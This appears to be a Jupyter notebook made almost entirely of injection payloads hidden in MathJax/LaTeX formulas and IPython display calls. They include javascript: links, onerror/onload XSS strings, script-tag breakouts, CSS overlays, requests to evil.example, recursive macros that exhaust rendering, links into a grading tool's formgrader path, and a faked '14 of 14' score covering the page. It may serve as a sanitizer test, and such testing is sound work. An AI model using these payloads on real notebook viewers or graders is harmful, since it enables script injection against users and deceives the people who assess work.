# Hides links, styles, classes and markup in formulas, for MathJax and for the MathML converter.
# %% [markdown]
# $\href{javascript:alert(1)}{x}$ $\style{position:fixed;inset:0}{x}$ $\class{total}{14}$ $\cssId{x}{y}$
# $\text{<img src=x onerror=alert(1)>}$ $\unicode{x3c}script\unicode{x3e}$ $\require{html}$ $</math><script>alert(1)</script>$
# $$\begin{array}{c}<svg onload=alert(1)>\end{array}$$ $\mathchoice{<a href=javascript:alert(1)>}{}{}{}$
# $\definecolor{x}{rgb}{0,0,0}\color{red;background:url(//evil)}x$ $\includegraphics{//evil}$ $\def\x{\x\x}\x$
# $\verb|<script>|$ $\mbox{" onmouseover="alert(1)}$ $<mtext onclick=alert(1)>$ $\newcommand{\a}{\a\a}\a$
# $\href{/formgrader/?path=/tmp}{x}$ $\href{https://evil.example/}{x}$ \(\href{javascript:alert(1)}{x}\)
# \[\style{position:fixed;inset:0;background:white;z-index:9}{x}\] \begin{align}\href{JAVASCRIPT:alert(1)}{x}\end{align}
# $\text{$\href{javascript:alert(1)}{x}$}$ $\newcommand{\h}[1]{\href{#1}{x}}\h{javascript:alert(1)}$ $\let\k=\href\k{/formgrader/?path=/tmp}{x}$
# $\bbox[background:url(https://evil.example/1.png)]{x}$ $\bbox[position:fixed;inset:0;background:white]{x}$
# $\mmlToken{mi}[href="javascript:alert(1)"]{x}$ $\unicode[x;position:fixed]{x41}$ $\toggle{x}{y}\endtoggle$ $\texttip{x}{y}$
# %% [markdown]
# $\rlap{\smash{\raise{30em}{\rule{90em}{90em}}}}$ $\hspace{-90em}\rule[-90em]{190em}{190em}$ $\lower{-40em}{\Huge\text{14 of 14}}$
# $$\begin{array}{c}x\\[-90em]\rule{90em}{190em}\end{array}$$ $\moveleft 90em {\rule{190em}{90em}}$ $\Rule{190em}{90em}{90em}$
# %%
from IPython.display import Latex, Math, display
display(Math("\\href{javascript:alert(1)}{x}"), Latex("$\\style{display:none}{x}$"))
print("$\\href{javascript:alert(1)}{x}$ \\(\\href{javascript:alert(1)}{x}\\)")
from IPython.display import HTML
display(HTML("<p>$\\href{/formgrader/?path=/tmp}{x}$ \\(\\href{javascript:alert(1)}{x}\\)</p>"))
display(HTML("<p>$\\smash{\\raise{30em}{\\rule{90em}{90em}}}$ &#92;(\\style{position:fixed;inset:0}{x})</p>"))
display(HTML("<script type='math/tex'>\\href{javascript:alert(1)}{x}</script>"))
